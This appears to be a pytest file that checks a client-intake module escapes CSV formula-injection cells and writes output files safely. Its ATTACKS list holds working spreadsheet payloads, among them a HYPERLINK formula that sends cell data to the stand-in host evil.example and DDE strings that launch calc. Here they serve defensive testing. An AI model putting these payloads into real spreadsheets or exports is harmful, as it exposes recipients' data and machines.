"""Formula injection from an intake sheet never reaches a CSV we write unescaped."""

from __future__ import annotations

import csv
import datetime as dt
import os
from pathlib import Path

import pytest

from broker_audit.intake import neutralise_cell, read_clients, write_bad_rows_csv, write_safe_csv

from .sheets import HEADER_EN, write_sheet

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for your letter")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_made_inert(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Ana García", "123 Main St", "80204", "a=b", "O'Brien", "1-800", "  "])
def test_harmless_cells_are_unchanged(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_bad_rows_csv_neutralises_every_cell_and_reads_back(tmp_path: Path) -> None:
    rows = [
        ["=cmd()", *HEADER_EN[1:]],
        [ATTACKS[0], "+García", "-1 Main", "", "@Denver", "CO", "", "4/12/1988", "-2+3", "=1"],
        ["Núñez", "Nguyễn", "1 A St", "", "Denver", "XX", "80204", "", "", ""],
    ]
    intake = read_clients(
        write_sheet(tmp_path / "in.csv", rows), today=dt.date(2025, 6, 1), column_map={"=cmd()": "first_name"}
    )
    assert len(intake.bad) == 2
    out = tmp_path / "to-fix.csv"
    write_bad_rows_csv(intake.bad, out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    with out.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    for line in table:
        for cell in line:
            assert not cell or cell[0] not in "=+-@\t\r＝＋－＠", cell
    assert table[0][:3] == ["row", "reason", "'=cmd()"]
    assert table[1][:2] == ["2", table[1][1]] and table[1][2] == "'" + ATTACKS[0]
    assert table[2][2:4] == ["Núñez", "Nguyễn"]
    assert os.stat(out).st_mode & 0o777 == 0o600


def test_write_safe_csv_is_atomic(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "list.csv"
    out.write_text("old")

    def rows() -> object:
        yield ["=ok"]
        raise RuntimeError("interrupted")

    with pytest.raises(RuntimeError):
        write_safe_csv(out, ["a"], rows())  # type: ignore[arg-type]
    assert out.read_text() == "old"
    assert [p.name for p in out.parent.iterdir()] == ["list.csv"]
